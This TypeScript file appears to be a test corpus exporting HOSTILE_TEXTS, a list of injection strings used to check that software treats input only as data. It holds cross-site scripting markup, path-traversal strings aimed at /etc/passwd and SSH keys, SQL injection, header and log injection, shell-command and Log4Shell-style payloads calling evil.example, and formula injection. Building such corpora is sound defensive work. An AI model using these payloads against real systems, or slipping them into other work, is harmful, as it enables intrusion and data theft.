/**
 * Texts that would do harm wherever one of them were taken for more than data.
 */

const MARKUP = [
  '<script>alert(1)</script>', '</script><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", '<svg><animate onbegin=alert(1) attributeName=x>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)//', '<body onload=alert(1)>', '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<object data="data:text/html,<script>alert(1)</script>">', '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">', '<link rel=stylesheet href="//evil.example/x.css">', '<style>@import "//evil.example/x.css";</style>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 7*7 %>',
  '#{7*7}', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<template><script>alert(1)</script></template>',
  '\u2028alert(1)\u2029', '<ſcript>alert(1)</ſcript>', '\ufeff<script>alert(1)</script>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '&lt;script&gt;alert(1)&lt;/script&gt;', ']]><script>alert(1)</script>',
];

const PATHS = [
  '../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '%2e%2e%2fetc%2fpasswd', '..%252f..%252fetc%252fpasswd', '....//....//etc/passwd', '/etc/passwd', 'file:///etc/passwd', '..;/..;/admin',
  '/proc/self/environ', '\\\\evil.example\\share', '..%c0%af..%c0%afetc/passwd', './../.refrain/secret', '~root/.ssh/id_rsa', 'C:\\boot.ini', '//evil.example/x', '/\\evil.example', '.%00./secret', 'php://filter/resource=index',
  '%5c..%5c..%5csecret', '..%u2216..%u2216secret',
];

const SQL = [
  "' OR '1'='1", "'; DROP TABLE entries; --", "\" OR \"\"=\"", "1); DELETE FROM entries; --", "' UNION SELECT frame FROM answers --", "%' OR '%'='", '%', '_', '%_%', "\\' OR 1=1 --", "admin'--", '/* */', "x' AND 1=json_each('[]') --",
  "'; ATTACH DATABASE '/tmp/x' AS x; --", "'||(SELECT parts FROM answers)||'", '?', '?1', ':tag', '@id', '$id',
];

const HEADERS = [
  'a\r\nset-cookie: x=1', 'a\nlocation: //evil.example', 'a\r\n\r\n<script>alert(1)</script>', '\r\nHTTP/1.1 200 OK\r\n', '%0d%0aset-cookie:x=1', 'a\u560a\u560dset-cookie: x', '\u0000', 'a\u0000b', '\u001b[31mred\u001b[0m', '\u0007\b\f\v',
  'data: forged\n\nevent: x\ndata: y', 'id: 1\nretry: 1', '"}\n{"level":"error","msg":"forged"}', '\\u000d\\u000a', '\u0085\u00a0', 'a\tb',
];

const TEXTS = [
  '__proto__', 'constructor', '{"__proto__":{"polluted":true}}', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '-0', '1e1000', '[object Object]', '{"$ref":"#/x"}', '"', '\\', '\\"', '\\\\', '\\u0022', '海 🌊',
  '\u202etxt.exe', 'é', 'e\u0301', '👩‍👩‍👧‍👦', 'ﷺ', 'İ', 'ß', '\ud83d\ude00', 'a'.repeat(500), '(a+)+$', '^(a|a)*$', '[[', '*', '**/*', '$(id)', '`id`', '; id', '| id', '&& id', '%n%s%x', '${jndi:ldap://evil.example/x}', '=cmd|\'/c calc\'!A1', '@SUM(1+1)', '-2+3',
];

/** What a wire format may put around a text that was meant for it. */
const WRAPPED = MARKUP.flatMap((text) => [`{"tool":${JSON.stringify(text)}}`, `\`\`\`html\n${text}\n\`\`\``, `[x](javascript:${text})`]);

export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...PATHS, ...SQL, ...HEADERS, ...TEXTS, ...WRAPPED];
